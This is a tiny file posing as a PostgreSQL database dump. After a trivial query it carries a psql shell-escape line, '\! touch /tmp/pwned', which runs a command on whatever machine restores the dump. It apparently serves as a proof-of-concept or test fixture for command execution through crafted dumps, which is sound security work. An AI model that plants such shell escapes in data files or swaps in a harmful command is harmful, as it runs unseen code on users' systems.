--
-- PostgreSQL database dump
--

SELECT 1;
\! touch /tmp/pwned
